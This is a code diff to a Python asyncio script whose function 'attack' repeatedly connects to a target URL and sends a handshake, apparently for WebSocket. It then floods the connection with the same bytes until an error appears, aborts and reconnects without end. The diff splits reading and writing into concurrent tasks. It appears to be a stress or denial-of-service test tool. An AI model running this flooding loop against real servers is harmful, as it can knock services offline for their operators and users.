@@ -33,19 +33,24 @@ async def attack(url: str, first: bytes, again: bytes) -> None:
     while True:
         reader, writer = await asyncio.open_connection(host, port)
         writer.write(handshake(netloc, path) + first)
-        drop = asyncio.create_task(_read_all(reader))
-        with suppress(OSError):
-            while not drop.done():
-                writer.write(again)
-                await writer.drain()
-        drop.cancel()
+        tasks = [asyncio.create_task(_read_until_error(reader)), asyncio.create_task(_write(writer, again))]
+        await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+        for task in tasks:
+            task.cancel()
         writer.transport.abort()
 
 
-async def _read_all(reader: asyncio.StreamReader) -> None:
+async def _read_until_error(reader: asyncio.StreamReader) -> None:
     with suppress(OSError):
-        while await reader.read(2**16):
+        while (content := await reader.read(2**16)) and b'"error"' not in content:
             pass
+
+
+async def _write(writer: asyncio.StreamWriter, content: bytes) -> None:
+    with suppress(OSError):
+        while True:
+            writer.write(content)
+            await writer.drain()
 
 
 def attack_all(url: str) -> None:
